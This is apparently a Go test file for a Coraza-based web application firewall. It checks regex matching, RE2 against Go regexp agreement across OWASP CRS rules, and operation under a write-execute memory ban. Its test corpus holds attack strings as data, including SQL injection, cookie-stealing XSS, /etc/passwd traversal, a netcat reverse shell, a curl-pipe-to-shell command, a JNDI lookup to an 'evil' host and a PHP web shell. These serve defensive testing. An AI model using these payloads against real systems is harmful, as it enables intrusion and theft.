package waf

import (
	"io/fs"
	"net/http"
	"os"
	"os/exec"
	"regexp"
	"slices"
	"strings"
	"testing"

	coreruleset "github.com/corazawaf/coraza-coreruleset/v4"
	"github.com/corazawaf/coraza/v3"
	re2 "github.com/wasilibs/go-re2"
	"golang.org/x/sys/unix"
)

// rxMatches runs a bare Coraza with one capturing @rx rule on the query
// argument v (URL-encoded) and reports whether it matched and its TX.1.
func rxMatches(t *testing.T, pattern, value string) (matched bool, tx1 string) {
	t.Helper()
	cw, err := coraza.NewWAF(coraza.NewWAFConfig().WithDirectives(`SecRuleEngine On
SecRule ARGS_GET:v "@rx ` + pattern + `" "id:1,phase:1,pass,log,capture,msg:'TX.1=%{TX.1}'"
`))
	if err != nil {
		t.Fatal(err)
	}
	tx := cw.NewTransaction()
	defer func() { _ = tx.Close() }()
	tx.ProcessURI("/?v="+value, "GET", "HTTP/1.1")
	tx.ProcessRequestHeaders()
	for _, mr := range tx.MatchedRules() {
		if mr.Rule().ID() == 1 {
			return true, strings.TrimPrefix(mr.Message(), "TX.1=")
		}
	}
	return false, ""
}

func TestRx_Semantics(t *testing.T) {
	for _, c := range []struct {
		name, pattern, value string // value is URL-encoded
		match                bool
		tx1                  string
	}{
		{"not multiline: ^ is the start of the value", `^b`, "a%0Ab", false, ""},
		{"not multiline: $ is the end of the value", `a$`, "a%0Ab", false, ""},
		{"dot matches newline", `a.(b)`, "a%0Ab", true, "b"},
		{"capture", `(?i)un(ion)\s+select`, "1%20UNION%20SELECT%202", true, "ION"},
		{"CRS sets multiline itself", `(?m)^b`, "a%0Ab", true, ""},
		// RE2's . and [^x] do not match an invalid byte; the operator then
		// uses Go's regexp, which reads it as U+FFFD.
		{"across an invalid UTF-8 byte", `(?i)union.+(select)`, "UNION%FF%20SELECT", true, "SELECT"},
		{"invalid UTF-8, no match", `(?i)union\s+select`, "%FFselect", false, ""},
		// A pattern that spells non-UTF-8 bytes matches byte-wise (CRS
		// 944210: a Java serialisation header).
		{"byte pattern", `\xac\xed\x00\x05`, "%AC%ED%00%05", true, ""},
		{"byte pattern, no match", `\xac\xed\x00\x05`, "%C2%AC%C3%AD", false, ""},
	} {
		t.Run(c.name, func(t *testing.T) {
			m, tx1 := rxMatches(t, c.pattern, c.value)
			if m != c.match || tx1 != c.tx1 {
				t.Errorf("@rx %s on %s: match %v TX.1 %q, want %v %q", c.pattern, c.value, m, tx1, c.match, c.tx1)
			}
		})
	}
}

func TestRx_SpellsNonUTF8(t *testing.T) {
	for expr, want := range map[string]bool{
		`abc`:                          false,
		`\x41\x42`:                     false,
		`\xc3\xa9`:                     false, // the UTF-8 of é
		`\xac\xed\x00\x05`:             true,
		`\x{e2}\x80[\x98\x99]`:         true,
		`[\x{c2}\x{b4}]`:               false,
		`\\xff`:                        false, // an escaped backslash, then "xff"
		`(?i)caf\x{c3}\x{a9}|\xff$`:    true,
		`trailing \x`:                  false,
		`\x{zz} not an escape \x4`:     false,
		`ü literal non-ASCII is UTF-8`: false,
	} {
		if got := spellsNonUTF8(expr); got != want {
			t.Errorf("spellsNonUTF8(%q) = %v, want %v", expr, got, want)
		}
	}
}

// TestRx_RE2AgreesWithGoRegexp checks, for every @rx pattern of the CRS,
// that RE2 and Go's regexp find the same match and the same groups on a
// corpus of benign values and attacks.
func TestRx_RE2AgreesWithGoRegexp(t *testing.T) {
	corpus := []string{
		"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36",
		"text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8", "en-US,en;q=0.9",
		"JSESSIONID=8F3A1C2B9D7E6F5A4B3C2D1E0F9A8B7C", "Customer asked about delivery, call back tomorrow",
		"/finesse/api/User/1001/Dialogs", "2024-05-01T00:00:00Z",
		"1' OR '1'='1", "1 UNION SELECT username, password FROM users--", "admin'/*", "SLEEP(5)#",
		"<script>alert(1)</script>", `<img src=x onerror="alert(document.cookie)">`, "javascript:alert(1)",
		"../../../../etc/passwd", "..%2f..%2fwindows/win.ini", "http://evil.example/shell.txt?",
		"; cat /etc/passwd", "| nc -e /bin/sh 10.0.0.1 4444", "$(curl http://x/y|sh)", "`id`",
		"${jndi:ldap://evil/a}", "<?php system($_GET['c']); ?>", "java.lang.Runtime.getRuntime().exec(\"id\")",
		"\r\nd store 2 +FLAGS (\\Deleted)\n", "2.2250738585072011e-308", "O:8:\"stdClass\":0:{}",
		"Ǳ KELVIN K ſ ß ẞ Σσς", "\u00a0\u2028tab\tnul", "x\ny\r\nz",
	}
	var patterns []string
	err := fs.WalkDir(coreruleset.FS, "@owasp_crs", func(p string, d fs.DirEntry, err error) error {
		if err != nil || d.IsDir() || !strings.HasSuffix(p, ".conf") {
			return err
		}
		data, err := fs.ReadFile(coreruleset.FS, p)
		if err != nil {
			return err
		}
		text := strings.ReplaceAll(string(data), "\\\n", "")
		for _, m := range crsRx.FindAllStringSubmatch(text, -1) {
			patterns = append(patterns, strings.ReplaceAll(m[1], `\"`, `"`))
		}
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	if len(patterns) < 200 {
		t.Fatalf("found %d @rx patterns in the CRS, want about 250", len(patterns))
	}
	for _, p := range patterns {
		if spellsNonUTF8(p) {
			continue
		}
		expr := "(?s)" + p
		std, err := regexp.Compile(expr)
		if err != nil {
			t.Errorf("Go regexp: %v", err)
			continue
		}
		fast, err := re2.Compile(expr)
		if err != nil {
			t.Errorf("RE2: %v", err)
			continue
		}
		for _, v := range corpus {
			if a, b := std.FindStringSubmatchIndex(v), fast.FindStringSubmatchIndex(v); !slices.Equal(a, b) {
				t.Errorf("%.80s on %q: Go %v, RE2 %v", p, v, a, b)
			}
		}
	}
}

var crsRx = regexp.MustCompile(`SecRule\s+\S+\s+"@rx ((?:[^"\\]|\\.)*)"`)

// TestWAF_MemoryDenyWriteExecute runs the WAF in a process that the kernel
// forbids to make memory executable (prctl PR_SET_MDWE, what systemd's
// MemoryDenyWriteExecute=yes in deploy/systemd/rampart.service applies on
// Linux 6.3 and later): RE2 is plain Go code and needs no executable
// mapping. The test re-executes itself, since the setting cannot be undone.
func TestWAF_MemoryDenyWriteExecute(t *testing.T) {
	if os.Getenv("RAMPART_WAF_MDWE_CHILD") == "1" {
		if err := unix.Prctl(unix.PR_SET_MDWE, unix.PR_MDWE_REFUSE_EXEC_GAIN, 0, 0, 0); err != nil {
			t.Skipf("PR_SET_MDWE: %v", err)
		}
		if m, err := unix.Mmap(-1, 0, 4096, unix.PROT_READ|unix.PROT_WRITE|unix.PROT_EXEC, unix.MAP_PRIVATE|unix.MAP_ANON); err == nil {
			_ = unix.Munmap(m)
			t.Fatal("PR_SET_MDWE is set, yet a writable and executable mapping was granted")
		}
		w, err := New(Config{Paranoia: 2}, t.TempDir()) // a build of its own, after the prctl
		if err != nil {
			t.Fatal(err)
		}
		up := &upstream{}
		if rec := serve(w.Handler(up), newRequest("GET", "/?id=1%20UNION%20SELECT%20password%20FROM%20users", "", nil)); rec.Code != http.StatusForbidden {
			t.Errorf("SQL injection: status %d, want 403", rec.Code)
		}
		if rec := serve(w.Handler(up), newRequest("GET", benchGETTarget, "", nil)); rec.Code != http.StatusOK {
			t.Errorf("normal request: status %d, want 200", rec.Code)
		}
		return
	}
	cmd := exec.Command(os.Args[0], "-test.run", "^TestWAF_MemoryDenyWriteExecute$", "-test.v")
	cmd.Env = append(os.Environ(), "RAMPART_WAF_MDWE_CHILD=1")
	out, err := cmd.CombinedOutput()
	if err != nil {
		t.Fatalf("child: %v\n%s", err, out)
	}
	if strings.Contains(string(out), "--- SKIP") {
		t.Skipf("the kernel cannot deny write-execute memory:\n%s", out)
	}
	if !strings.Contains(string(out), "--- PASS") {
		t.Fatalf("child did not pass:\n%s", out)
	}
}
